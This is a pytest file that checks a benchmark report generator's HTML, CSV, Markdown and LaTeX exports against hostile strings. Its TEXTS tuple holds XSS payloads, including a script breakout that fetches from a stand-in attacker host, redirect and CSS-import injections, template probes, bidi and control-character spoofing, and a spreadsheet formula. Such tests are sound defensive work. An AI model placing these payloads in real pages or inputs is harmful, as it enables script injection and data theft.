"""Reports whose every text was made to do harm: they show it, and nothing else happens, in a real browser too."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from prejudge.errors import visible
from prejudge.report import ReportData, SearchReportData, TrainingReportData, to_csv, to_html, to_latex, to_markdown
from tests.report.test_search_page import comparison
from tests.report.test_training_page import record

OUTSIDE = "//evil.example/x"
TEXTS = (
    f"</script><script>stolen = 1; fetch('{OUTSIDE}')</script>",
    f'"><img src={OUTSIDE} onerror=alert(1)>',
    f"'><svg onload=alert(1)><a href={OUTSIDE}>",
    f"</title></style><meta http-equiv=refresh content='0;url=http:{OUTSIDE}'><base href={OUTSIDE}>",
    f"<style>@import url({OUTSIDE});*{{display:none}}</style>",
    "--><!--<![CDATA[ {{ 7 * 7 }} {% raw %} ${stolen = 1} javascript:alert(1)",
    "\u202egnp.exe\u2066 \x1b[2J\x00\x9b zero\u200bwidth",
    "__proto__",
    "=HYPERLINK(1)  two  blanks\nand\ta line",
    "W" * 400,
)
"""Each beginning of a way out of the page."""

ALL = " ".join(TEXTS) + " \ud800"


def hostile_scores(make_report: Callable[..., ReportData]) -> ReportData:
    data = make_report(60)
    proxies = dict(zip(data.scores.columns, TEXTS, strict=False))
    metrics = dict(zip(data.metrics, TEXTS[:2], strict=False))
    cells = data.scores.index
    index = pd.Index([f"{TEXTS[k % len(TEXTS)]}{k}" for k in range(len(cells))], dtype=object)
    agreement = data.agreement.astype({"proxy": object, "other": object}).replace(proxies)
    return dataclasses.replace(
        data,
        title=ALL,
        space=TEXTS[0],
        scores=data.scores.set_axis(index).rename(columns=proxies),
        accuracies=data.accuracies.set_axis(index).rename(columns=metrics),
        params=data.params.set_axis(index),
        connected=data.connected.set_axis(index),
        agreement=agreement,
        correlations=data.correlations.astype({"proxy": object, "metric": object}).replace(
            {"proxy": proxies, "metric": metrics}
        ),
        failures=pd.DataFrame({"architecture": TEXTS, "proxy": TEXTS, "reason": TEXTS}, dtype=object),
        seconds={proxies.get(name, name): value for name, value in data.seconds.items()},
        directions={proxies.get(name, name): value for name, value in data.directions.items()},
        protocol=dict(zip(TEXTS, TEXTS, strict=True)),
        provenance=dict(zip(TEXTS, TEXTS, strict=True)),
        warnings=list(TEXTS),
        unit=TEXTS[1],
    )


def hostile_searches(make_report: Callable[..., ReportData]) -> SearchReportData:
    data = comparison(len(TEXTS), 2)
    methods = dict(zip(dict.fromkeys(data.final["method"]), TEXTS, strict=True))
    metrics = dict(zip(data.optima, TEXTS[:2], strict=True))

    def renamed(frame: pd.DataFrame) -> pd.DataFrame:
        changes = {name: {**methods, **metrics} for name in ("method", "metric", "first", "second") if name in frame}
        return frame.astype(dict.fromkeys(changes, object)).replace(changes)

    return dataclasses.replace(
        data, title=ALL, space=TEXTS[0], final=renamed(data.final), curves=renamed(data.curves),
        tests=renamed(data.tests), optima={metrics[name]: value for name, value in data.optima.items()},
        descriptions=dict(zip(methods.values(), TEXTS, strict=True)), protocol=dict(zip(TEXTS, TEXTS, strict=True)),
        provenance=dict(zip(TEXTS, TEXTS, strict=True)), warnings=list(TEXTS), costs=TEXTS[1], unit=TEXTS[2],
    )  # fmt: skip


def hostile_trainings(make_report: Callable[..., ReportData]) -> TrainingReportData:
    texts = dict(zip(TEXTS, TEXTS, strict=True))
    records = [
        dataclasses.replace(
            record(name=text, classes=10), architecture=text, selection=text, protocol=texts, provenance=texts,
            classes=list(TEXTS),
        )
        for text in TEXTS[:6]
    ]  # fmt: skip
    return TrainingReportData(ALL, TEXTS[0], records, list(TEXTS))


REPORTS = [hostile_scores, hostile_searches, hostile_trainings]


@pytest.mark.parametrize("hostile", REPORTS)
def test_every_format_holds_the_texts_and_nothing_hidden(hostile: Any, make_report: Any) -> None:
    data = hostile(make_report)
    page, csv = to_html(data), to_csv(data)
    assert page.count("<script") == page.count("</script>") == 2 and page.count("<meta ") == 5
    assert not set(page) & set("\x00\x1b\x9b\u202e\u2066\u200b\ud800")
    for text in (page, csv, to_markdown(data), to_latex(data)):
        text.encode()
        assert not any(c < " " and c not in "\n\t" for c in text) and "\x9b" not in text
    assert not any(cell.startswith(("=", "@")) for line in csv.splitlines() for cell in line.split(","))


@pytest.mark.browser
@pytest.mark.parametrize("width", [1280, 400])
@pytest.mark.parametrize("hostile", REPORTS)
def test_no_text_runs_asks_or_leaves(
    hostile: Any, width: int, make_report: Any, visit_file: Callable[..., Any], tmp_path: Path
) -> None:
    path = tmp_path / "report.html"
    path.write_text(to_html(hostile(make_report)))
    page = visit_file(path, width)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    for select in page.locator("select").all():
        for option in select.locator("option").all():
            select.select_option(option.get_attribute("value"))
    for button in page.locator("table.sortable thead button:visible").all()[:4]:
        button.click()
    for segment in page.locator(".segments label:visible").all():
        segment.click()
    for field in page.locator(".charts .field").all()[:4]:
        field.scroll_into_view_if_needed()
        field.hover()
    if page.locator(".multiple").count():
        page.locator(".multiple").first.click()
        page.locator("dialog .field").hover()
        page.keyboard.press("Escape")
    assert page.evaluate("typeof stolen") == "undefined" and page.url == path.as_uri()
    assert page.locator("main img, svg a, main style, main iframe").count() == page.locator(".picture img").count()
    shown = page.locator("body").inner_text()
    for text in TEXTS:
        assert " ".join(visible(text, keep="\n\t").split()) in " ".join(shown.split())
